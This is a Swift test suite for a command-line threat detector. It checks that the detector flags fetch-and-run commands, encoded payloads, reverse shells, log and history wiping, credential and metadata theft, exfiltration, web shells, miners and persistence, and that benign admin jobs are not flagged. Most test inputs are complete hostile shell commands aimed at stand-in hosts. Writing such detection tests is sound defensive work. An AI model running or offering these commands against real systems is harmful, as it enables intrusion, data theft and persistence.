import CaseModel
import Testing

@testable import Triage

/// Each technique in several dresses, and the ordinary commands that look like it.
@Suite struct CommandJudgeTests {
  private func kinds(_ text: String) -> Set<CommandSign.Kind> { Set(CommandJudge.signs(in: text).map(\.kind)) }
  private func severity(_ text: String, _ setting: CommandOpinion.Setting = .persistence) -> Severity {
    CommandJudge.judge(text, setting: setting).severity ?? .info
  }

  @Test(arguments: [
    "curl -fsSL http://198.51.100.7/x | bash",
    "wget -q -O - https://cdn.example.net/a.sh|sh",
    "(curl -s http://h.example/a || wget -qO- http://h.example/a) | bash",
    "bash -c \"$(curl -fsSL https://h.example/i.sh)\"",
    "bash <(curl -s https://h.example/i)",
    "eval \"`wget -qO- http://h.example/i`\"",
    "$(curl -s http://h.example/cmd)",
    "cd /opt && wget http://h.example/job && chmod 755 job && ./job",
    "curl -o /opt/k http://h.example/k; sh /opt/k",
    "wget -O /tmp/.u http://h.example/u >/dev/null 2>&1; chmod +x /tmp/.u; /tmp/.u",
    "curl -s http://h.example/a | tee /opt/a | sudo -n bash -s -- x",
    "timeout 60 curl -s http://h.example/p.py | python3 -",
    "c=cu; r=rl; $c$r -s http://h.example/x | sh",
    "python3 -c \"import urllib.request as u;exec(u.urlopen('http://h.example/p').read())\"",
    "nice -n 19 sh -c 'curl -s h.example/x | sh'",
    "perl -e 'use LWP::Simple; eval LWP::Simple::get(\"http://h.example/\")'",
    "curl -s http://h.example/i | base64 -d | bash",
    "[ -f /opt/x ] || { curl -s http://h.example/x; } | sh",
    "source <(curl -s h.example/x)", "python3 <(curl -s h.example/x.py)", "x=$(curl -s h.example/x); eval \"$x\"",
    "dig +short txt h.example | tr -d '\"' | base64 -d | sh", "aws s3 cp s3://b/x - | sh",
    "tmux new -d 'curl h.example|sh'",
    "echo 'curl h.example|sh' | at now", "curl${IFS}-s${IFS}h.example|sh", "bash<<<$(curl -s h.example)",
    "ssh -o ProxyCommand='sh -c \"curl h.example|sh\"' x",
    "find / -name x -exec sh -c 'curl http://h.example | sh' \\;",
  ])
  func fetchingAndRunningIsSeen(_ text: String) {
    #expect(kinds(text).contains(.fetchAndExecute), "\(text)")
    #expect(severity(text) >= .high)
  }

  @Test(arguments: [
    "curl -fsS http://localhost/health",
    "curl -fsS -o /dev/null https://shop.example.org/wp-cron.php?doing_wp_cron",
    "wget -q -O - https://shop.example.org/wp-cron.php >/dev/null 2>&1",
    "curl -s https://api.example.org/v1/status | jq .state",
    "curl -s https://api.example.org/v1/status | python3 -m json.tool",
    "curl -s https://api.example.org/x | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'",
    "curl -fsSL https://download.docker.com/linux/ubuntu/gpg | sudo gpg --dearmor -o /usr/share/keyrings/docker.gpg",
    "curl -sS https://dl.yarnpkg.com/debian/pubkey.gpg | sudo apt-key add -",
    "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew",
    "cd / && run-parts --report /etc/cron.hourly",
    "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
    "/usr/bin/docker system prune -af --filter until=72h",
    "/usr/local/bin/backup.sh >> /var/log/backup.log 2>&1",
    "/usr/bin/aws s3 sync /srv/data s3://bucket/data --delete",
    "rsync -a --delete /srv/ backup@backup.example.org:/srv/",
    "mysqldump --all-databases | gzip > /srv/backup/db.sql.gz",
    "find /var/log -name '*.gz' -mtime +30 -delete",
    "find /tmp -type f -atime +10 -delete",
    "/opt/puppetlabs/bin/puppet agent --onetime --no-daemonize",
    "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
    "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
    "flock -n /run/lock/job.lock /opt/app/bin/job --once",
    "nc -z db.example.org 5432",
    "bash -c 'exec 3<>/dev/tcp/db/5432 && echo ok'",
    "truncate -s 0 /var/log/app/app.log",
    "journalctl --vacuum-time=7d",
    "find /var/log -type f -mtime +30 -exec rm {} \\;",
    "chmod --reference=/etc/shells /etc/shells.tmp",
    "case $x in /usr/include/a) echo b ;; esac",
    "usermod -d /var/lib/app app",
    "ssh-agent bash -c 'git pull'",
    "for f in /srv/*.sh; do bash $f; done",
    "chmod 2775 /srv/shared",
    "setcap cap_net_bind_service=+ep /usr/local/bin/caddy",
    "sshpass -p x ssh admin@10.0.0.1 uptime",
    "/usr/sbin/logrotate /etc/logrotate.conf",
    "pip install -r requirements.txt",
    "/home/ubuntu/app/.venv/bin/python /home/ubuntu/app/main.py",
    "echo ${PATH}; export HISTSIZE=10000 HISTCONTROL=ignoredups",
  ])
  func ordinaryJobsHaveNoSignThatMatters(_ text: String) {
    #expect(severity(text) <= .info, "\(text): \(CommandJudge.signs(in: text))")
  }

  @Test(arguments: [
    "echo Y3VybCBodHRwOi8vaC5leGFtcGxlL3h8c2g= | base64 -d | sh",
    "bash -c \"$(echo aWQ= | base64 --decode)\"",
    "eval $(printf '\\x69\\x64')$(echo aWQK | openssl base64 -d)",
    "echo 6375726c | xxd -r -p | bash",
    "python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'",
    "perl -MMIME::Base64 -e 'eval decode_base64(\"cHJpbnQ=\")'",
    "base64 -d /opt/d > /opt/e; chmod +x /opt/e; /opt/e",
    "php -r 'eval(gzinflate(base64_decode(\"x\")));'",
    "bash -c {echo,Y3VybCBoLmV4fHNo}|{base64,-d}|{bash,-i}",
    "rev <<< 'di' | sh",
  ])
  func encodedPayloadsAreSeen(_ text: String) {
    #expect(kinds(text).contains(.encodedPayload), "\(text)")
  }

  @Test func aDecodedPayloadIsJudgedItself() {
    // The text is `curl http://h.example/x|sh`.
    let signs = kinds("echo Y3VybCBodHRwOi8vaC5leGFtcGxlL3h8c2g= | base64 -d | sh")
    #expect(signs.contains(.fetchAndExecute))
  }

  @Test(arguments: ["base64 -d secret.b64 > secret.json", "echo aGVsbG8= | base64 -d", "zcat dump.sql.gz | mysql app"])
  func decodingDataIsOrdinary(_ text: String) { #expect(!kinds(text).contains(.encodedPayload), "\(text)") }

  @Test(arguments: [
    "bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
    "/bin/bash -c 'bash -i >& /dev/tcp/h.example/443 0>&1'",
    "0<&196;exec 196<>/dev/tcp/h.example/443; sh <&196 >&196 2>&196",
    "exec 5<>/dev/tcp/h.example/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
    "nc -e /bin/sh 198.51.100.7 4444",
    "ncat --exec /bin/bash -lvp 4444",
    "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 >/tmp/f",
    "telnet h.example 4444 | /bin/sh | telnet h.example 4445",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h.example:443 > /tmp/s",
    "socat exec:'bash -li',pty,stderr,setsid tcp:h.example:4444",
    "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh",
    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
    "perl -e 'use Socket;$i=\"h\";socket(S,PF_INET,SOCK_STREAM,6);connect(S,$x);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
    "php -r '$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3\");'",
    "ruby -rsocket -e 'f=TCPSocket.open(\"h\",1).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'",
    "lua -e 'local s=require(\"socket\");local t=assert(s.tcp());t:connect(\"h\",1);io.popen(\"/bin/sh\")'",
    "awk 'BEGIN{s=\"/inet/tcp/0/h/1\";while(1){s|&getline c;while(c|&getline)print|&s;close(c)}}'",
    "/opt/svc -e /bin/sh 198.51.100.7 53",
  ])
  func remoteShellsAreSeen(_ text: String) {
    #expect(kinds(text).contains(.remoteShell), "\(text)")
    #expect(severity(text, .typed) >= .high)
  }

  @Test(arguments: [
    ("unset HISTFILE", CommandSign.Kind.historyTampering), ("export HISTFILE=/dev/null", .historyTampering),
    ("ln -sf /dev/null ~/.bash_history", .historyTampering), ("cat /dev/null > ~/.bash_history", .historyTampering),
    ("history -c", .historyTampering), ("HISTSIZE=0 bash", .historyTampering), ("set +o history", .historyTampering),
    ("> /var/log/auth.log", .logTampering), ("sed -i '/198.51.100.7/d' /var/log/secure", .logTampering),
    ("rm -rf /var/log/*", .logTampering), ("truncate -s 0 /var/log/wtmp", .logTampering),
    ("journalctl --vacuum-time=1s", .logTampering), ("find /var/log -type f -exec truncate -s 0 {} \\;", .logTampering),
    ("for f in /var/log/*.log; do > $f; done", .logTampering), ("mount -o bind /tmp/e /proc/123", .processHidden),
    ("echo '* * * * * /opt/x' | crontab", .persistenceCreation), ("useradd -ou 0 x", .accountCreation),
    ("touch -r /bin/ls /usr/bin/upd", .timestampChange), ("touch -d '2019-01-01' /etc/cron.d/x", .timestampChange),
    ("chattr +i /etc/cron.d/x", .immutableFlag),
    ("tar czf - /etc/shadow /root/.ssh | curl -T - http://198.51.100.7/", .credentialAccess),
    ("cp /etc/shadow /var/tmp/s", .credentialAccess), ("cat /root/.ssh/id_rsa | base64", .credentialAccess),
    ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role", .metadataCredentials),
    (
      "/opt/sys -o pool.example:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k",
      .miner
    ),
    ("nohup ./x --donate-level 1 --coin monero &", .miner), ("x -o stratum+tcp://pool.example:3333", .miner),
    ("ssh -fN -R 2222:localhost:22 -o StrictHostKeyChecking=no t@198.51.100.7", .tunnel),
    ("echo 'ssh-rsa AAAA x' >> /root/.ssh/authorized_keys", .persistenceCreation),
    ("(crontab -l; echo '* * * * * /opt/x') | crontab -", .persistenceCreation),
    ("useradd -o -u 0 -g 0 sys2", .accountCreation),
    ("echo /lib/x.so > /etc/ld.so.preload", .preloadInstall),
    ("cp /bin/bash /opt/b; chmod 4755 /opt/b", .privilegeGrant),
    ("chmod u+s /usr/bin/find", .privilegeGrant), ("setcap cap_setuid+ep /usr/bin/python3", .privilegeGrant),
    ("systemctl disable --now auditd", .defenceDisabled), ("auditctl -D", .defenceDisabled),
    ("setenforce 0", .defenceDisabled),
    ("iptables -F", .firewallOpened), ("curl -F 'f=@/srv/db.sql' https://transfer.sh/", .exfiltration),
    ("curl -d \"$(cat /etc/passwd | base64)\" http://198.51.100.7/", .exfiltration),
    ("tar cz /home | nc 198.51.100.7 99", .exfiltration),
    ("echo '<?php system($_GET[1]); ?>' > /var/www/html/c.php", .webShellWritten),
    ("insmod /tmp/r.ko", .kernelModuleLoad),
    ("LD_PRELOAD=/dev/shm/l.so /usr/sbin/sshd", .preloadUsed), ("/dev/shm/.x/run", .oddProgramPlace),
    ("sh /tmp/a.sh", .oddProgramPlace),
    ("c''url -s x | w\"ge\"t y", .obfuscation), ("{wget,-q,http://h.example/a}", .obfuscation),
    ("docker run --privileged -v /:/host alpine chroot /host sh", .hostEscape), ("pkill -9 -f xmrig", .rivalsKilled),
    ("for h in $(awk '{print $1}' ~/.ssh/known_hosts); do ssh -o BatchMode=yes $h 'id'; done", .lateralMovement),
    ("python3 -c 'import ctypes;ctypes.CDLL(None).syscall(319,b\"\",1)'", .memoryExecution),
    ("wget${IFS}-q${IFS}http://h.example/x", .obfuscation),
  ])
  func eachDeedIsNamed(_ text: String, _ kind: CommandSign.Kind) {
    #expect(kinds(text).contains(kind), "\(text): \(kinds(text))")
  }

  @Test func vendorInstallersInAHistoryAreQuiet() {
    for text in [
      "curl -fsSL https://get.docker.com | sh", "curl https://sh.rustup.rs -sSf | sh -s -- -y",
      "bash <(curl -L https://nixos.org/nix/install)",
    ] {
      #expect(severity(text, .typed) <= .low)
      #expect(severity(text, .persistence) >= .medium)
    }
  }

  @Test func anUnendingTextIsReadWithinBounds() {
    let deep = String(repeating: "$(", count: 5000) + "curl x | sh"
    #expect(CommandReading(deep).stages.count <= CommandReading.mostStages)
    #expect(CommandReading(String(repeating: "a;", count: 100_000)).stages.count <= CommandReading.mostStages)
    _ = CommandReading(String(repeating: "sh -c '", count: 2000))
    _ = CommandReading(String(repeating: "`", count: 4000))
    _ = CommandReading("a << E\n" + String(repeating: "<<E ", count: 2000))
  }

  /// Found by fuzzing: the word ends behind the text, where the document's body was looked for.
  @Test(arguments: ["cat <<A \"x", "cat <<A \\", "cat <<A $'x", "cat <<A `x"])
  func aHereDocumentBehindAnOpenQuoteIsRead(_ text: String) {
    #expect(CommandReading(text).stages.contains { $0.program == "cat" })
  }

  @Test func everyPrefixOfATangledTextIsRead() {
    let text = "a=1;(x|{ y; }&&z) >f 2>&1 <<E | sh -c \"$(b `c` ${d:-e})\" $'\\x41' \\\n<(q) &\nE\n"
    for length in 0...text.utf8.count {
      _ = CommandJudge.signs(in: String(decoding: text.utf8.prefix(length), as: UTF8.self))
    }
  }
}
